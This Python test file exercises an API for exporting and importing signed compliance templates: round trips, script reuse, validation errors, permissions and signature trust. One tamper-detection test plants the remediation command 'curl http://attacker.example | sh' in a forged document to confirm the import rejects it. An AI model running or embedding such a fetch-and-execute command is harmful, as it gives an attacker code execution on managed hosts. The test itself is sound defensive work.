"""Template export and import over HTTP: the document, its round trip, script reuse and rejected documents."""

import hashlib
import json
import uuid

from sqlalchemy import func, select

from domain.portability import document_digest
from models import AuditEntry, AutomationWorkflow, ComplianceTemplate, Script
from tests.factories import login, make_org, make_user

BASE = "/api/v1/compliance/templates"


async def setup(client, db, role: str = "operator"):
    org = await make_org(db)
    user = await make_user(db, org=org, role=role)
    await db.commit()
    return org, await login(client, user.username)


async def system_id(db, key: str) -> uuid.UUID:
    return await db.scalar(select(ComplianceTemplate.id).where(ComplianceTemplate.content_key == key))


def comparable(document: dict) -> dict:
    """A document without what legitimately changes on import: the version (and so the digest and signature)."""
    return {k: v for k, v in document.items() if k not in ("digest", "signature")} | {
        "template": {k: v for k, v in document["template"].items() if k != "version"}}


async def test_export_import_export_round_trips(client, db):
    org, headers = await setup(client, db)
    source = await system_id(db, "cis-linux-l1")
    exported = await client.get(f"{BASE}/{source}/export", headers=headers)
    assert exported.status_code == 200
    document = exported.json()
    assert document["format"] == "compliance-template" and document["format_version"] == 1
    assert document["digest"] == document_digest(document)
    assert document["template"]["version"] == 1 and document["template"]["os_type"] == "linux"
    scripted = [c for c in document["checks"] if c["remediation_type"] == "script"]
    assert scripted and all(set(c["script"]) == {"name", "shell", "body", "sha256", "timeout_seconds"}
                            for c in scripted)

    imported = await client.post(f"{BASE}/import", json={"org_id": str(org.id), "document": document},
                                 headers=headers)
    assert imported.status_code == 201, imported.text
    body = imported.json()
    assert body["status"] == "draft" and body["version"] == 1 and body["is_system"] is False
    assert body["org_id"] == str(org.id) and body["lineage_id"] != document.get("lineage_id")
    assert body["source_template_id"] is None
    again = (await client.get(f"{BASE}/{body['id']}/export", headers=headers)).json()
    assert comparable(again) == comparable(document)
    # The system scripts are visible to the org, so the import binds to them instead of copying them.
    assert await db.scalar(select(func.count()).select_from(Script).where(Script.org_id == org.id)) == 0
    entry = await db.scalar(select(AuditEntry).where(AuditEntry.action == "template.import"))
    assert entry.target_id == body["id"] and entry.after["digest"] == document["digest"]


async def test_import_reuses_or_creates_org_scripts_and_a_new_lineage_each_time(client, db):
    org, headers = await setup(client, db)
    target, target_headers = await setup(client, db)
    body = "echo fixed\n"
    script = Script(org_id=org.id, name="Fix it", shell="bash", body=body, timeout_seconds=30,
                    sha256=hashlib.sha256(body.encode()).hexdigest())
    db.add(script)
    await db.commit()
    draft = (await client.post(f"{BASE}/{await system_id(db, 'cis-linux-l2')}/copy",
                               json={"org_id": str(org.id), "name": "Custom"}, headers=headers)).json()
    added = await client.post(f"{BASE}/{draft['id']}/checks", headers=headers, json={
        "rule_id": "x.1", "title": "t", "severity": "low", "rule": {"type": "kernel_module", "name": "usb_storage"},
        "remediation_type": "script", "script_id": str(script.id)})
    assert added.status_code == 201
    document = (await client.get(f"{BASE}/{draft['id']}/export", headers=headers)).json()
    assert document["checks"][-1]["script"]["name"] == "Fix it"

    same_org = await client.post(f"{BASE}/import", json={"org_id": str(org.id), "document": document},
                                 headers=headers)
    assert same_org.status_code == 201
    assert same_org.json()["checks"][-1]["script_id"] == str(script.id)
    second = await client.post(f"{BASE}/import", json={"org_id": str(org.id), "document": document},
                               headers=headers)
    assert second.json()["lineage_id"] != same_org.json()["lineage_id"]

    db.add(Script(org_id=target.id, name="Fix it", shell="bash", body="other\n", sha256="0" * 64,
                  timeout_seconds=30))
    await db.commit()
    other_org = await client.post(f"{BASE}/import", json={"org_id": str(target.id), "document": document},
                                  headers=target_headers)
    assert other_org.status_code == 201, other_org.text
    created = await db.get(Script, uuid.UUID(other_org.json()["checks"][-1]["script_id"]))
    assert created.org_id == target.id and created.sha256 == script.sha256
    assert created.name == f"Fix it ({script.sha256[:8]})"


async def test_a_bad_document_is_422_listing_every_problem(client, db):
    org, headers = await setup(client, db)
    document = (await client.get(f"{BASE}/{await system_id(db, 'cis-linux-l2')}/export", headers=headers)).json()
    document["template"]["scan_interval_hours"] = 1
    document["checks"][0]["severity"] = "urgent"
    document["checks"][1]["rule"] = {"type": "nope"}
    response = await client.post(f"{BASE}/import", json={"org_id": str(org.id), "document": document},
                                 headers=headers)
    assert response.status_code == 422
    detail = [".".join(map(str, e["loc"][2:])) + ": " + e["msg"] for e in response.json()["detail"]]
    assert len(detail) == 4, detail
    assert any(p.startswith("template.scan_interval_hours") for p in detail)
    assert any(p.startswith("checks[0].severity") for p in detail)
    assert any(p.startswith("checks[1].rule") for p in detail)
    assert "digest: does not match the document's content" in detail
    assert await db.scalar(select(func.count()).select_from(ComplianceTemplate)
                           .where(ComplianceTemplate.org_id == org.id)) == 0

    tampered = (await client.get(f"{BASE}/{await system_id(db, 'cis-linux-l2')}/export", headers=headers)).json()
    tampered["checks"][0]["enabled"] = False
    wrong = await client.post(f"{BASE}/import", json={"org_id": str(org.id), "document": tampered},
                              headers=headers)
    assert wrong.status_code == 422 and wrong.json()["detail"] == [
        {"loc": ["body", "document", "digest"], "msg": "does not match the document's content",
         "type": "invalid_document"}]


async def test_workflow_bindings_travel_by_name(client, db):
    org, headers = await setup(client, db)
    target, target_headers = await setup(client, db)
    flow = AutomationWorkflow(org_id=org.id, name="Harden", steps=[])
    db.add(flow)
    await db.commit()
    draft = (await client.post(f"{BASE}/{await system_id(db, 'cis-linux-l2')}/copy",
                               json={"org_id": str(org.id), "name": "Custom"}, headers=headers)).json()
    await client.post(f"{BASE}/{draft['id']}/checks", headers=headers, json={
        "rule_id": "x.1", "title": "t", "severity": "low", "rule": {"type": "kernel_module", "name": "usb_storage"},
        "remediation_type": "workflow", "workflow_id": str(flow.id)})
    document = (await client.get(f"{BASE}/{draft['id']}/export", headers=headers)).json()
    assert document["checks"][-1]["workflow"] == {"name": "Harden"}
    missing = await client.post(f"{BASE}/import", json={"org_id": str(target.id), "document": document},
                                headers=target_headers)
    assert missing.status_code == 422 and "Harden" in missing.json()["detail"][0]["msg"]
    db.add(AutomationWorkflow(org_id=target.id, name="Harden", steps=[]))
    await db.commit()
    found = await client.post(f"{BASE}/import", json={"org_id": str(target.id), "document": document},
                              headers=target_headers)
    assert found.status_code == 201
    bound = await db.get(AutomationWorkflow, uuid.UUID(found.json()["checks"][-1]["workflow_id"]))
    assert bound.org_id == target.id


async def test_import_needs_manage_in_the_target_org(client, db):
    org, viewer_headers = await setup(client, db, role="viewer")
    other, _ = await setup(client, db)
    document = (await client.get(f"{BASE}/{await system_id(db, 'cis-linux-l2')}/export",
                                 headers=viewer_headers)).json()
    denied = await client.post(f"{BASE}/import", json={"org_id": str(org.id), "document": document},
                               headers=viewer_headers)
    assert denied.status_code == 403
    hidden = await client.post(f"{BASE}/import", json={"org_id": str(other.id), "document": document},
                               headers=viewer_headers)
    assert hidden.status_code == 404


async def test_an_edited_document_is_refused_even_with_its_digest_recomputed(client, db, app_factory):
    """Security review row 16: the digest is a plain hash anyone can recompute after tampering."""
    org, headers = await setup(client, db)
    document = (await client.get(f"{BASE}/{await system_id(db, 'cis-linux-l1')}/export", headers=headers)).json()
    assert document["signature"]["alg"] == "Ed25519"
    url = f"{BASE}/import"

    forged = json.loads(json.dumps(document))
    forged["checks"][0]["title"] = "Harmless-looking check"
    forged["checks"][0]["remediation_type"], forged["checks"][0]["script"] = "script", {
        "name": "fix", "shell": "bash", "body": "curl http://attacker.example | sh", "timeout_seconds": 60,
        "sha256": hashlib.sha256(b"curl http://attacker.example | sh").hexdigest()}
    forged["digest"] = document_digest(forged)
    refused = await client.post(url, json={"org_id": str(org.id), "document": forged}, headers=headers)
    assert refused.status_code == 422
    assert refused.json()["detail"] == [{"loc": ["body", "document", "signature"], "type": "invalid_document",
                                         "msg": "does not match the document's content"}]

    unsigned = {k: v for k, v in document.items() if k != "signature"}
    missing = await client.post(url, json={"org_id": str(org.id), "document": unsigned}, headers=headers)
    assert missing.status_code == 422 and missing.json()["detail"][0]["msg"].startswith("missing")
    assert await db.scalar(select(func.count()).select_from(ComplianceTemplate)
                           .where(ComplianceTemplate.org_id == org.id)) == 0


async def test_another_installations_documents_need_its_key_to_be_trusted(client, db, app_factory):
    org = await make_org(db)
    user = await make_user(db, org=org, role="operator")
    await db.commit()
    headers = await login(client, user.username)
    elsewhere = await app_factory(jwt_secret="another-installation-" + "x" * 40)
    their_headers = await login(elsewhere, user.username)
    document = (await elsewhere.get(f"{BASE}/{await system_id(db, 'cis-linux-l1')}/export",
                                    headers=their_headers)).json()
    body = {"org_id": str(org.id), "document": document}
    untrusted = await client.post(f"{BASE}/import", json=body, headers=headers)
    assert untrusted.status_code == 422 and "does not trust" in untrusted.json()["detail"][0]["msg"]

    their_key = (await elsewhere.get("/api/v1/compliance/portability/signing-key", headers=their_headers)).json()
    assert their_key["alg"] == "Ed25519" and their_key["key_id"] == document["signature"]["key_id"]
    trusting = await app_factory(portability_trusted_keys=their_key["public_key"])
    accepted = await trusting.post(f"{BASE}/import", json=body, headers=await login(trusting, user.username))
    assert accepted.status_code == 201, accepted.text
